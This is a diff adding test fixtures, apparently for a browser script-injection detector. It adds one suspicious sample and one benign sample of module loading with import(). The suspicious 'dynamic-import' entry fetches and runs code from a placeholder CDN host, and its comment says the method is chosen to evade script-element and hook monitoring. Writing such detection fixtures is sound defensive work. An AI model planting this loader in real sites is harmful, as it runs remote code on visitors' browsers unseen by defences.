@@ -232,6 +232,11 @@ export const MAIN_WORLD_SCRIPTS = {
   }
   window.__markupDone = true;
 })();`,
+  /**
+   * Loads its payload as a module with \`import()\`: code from the CDN runs with no script element and no
+   * call any hook wraps.
+   */
+  'dynamic-import': `import('https://${HELPER_CDN}/quiet.js').then(() => { window.__imported = true; });`,
   /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
   'self-remove': `(() => {
   const inline = document.createElement('script');
@@ -1263,6 +1268,11 @@ export const BENIGN = {
   document.body.append(parsed.body.firstChild);
   button.click();
 })();`,
+  /**
+   * The shop's own code loading modules with \`import()\`: one of its own and one from its captcha provider
+   * (a trusted host); neither leaves a script element.
+   */
+  'own-modules': `Promise.all([import('/assets/reviews-module.js'), import('https://captcha.kazpay.test/module.js')]).then(() => { window.__modules = true; });`,
   /** The shop counting clicks on its own links with pings to itself and to its analytics provider. */
   'link-pings': `(() => {
   const a = document.createElement('a');
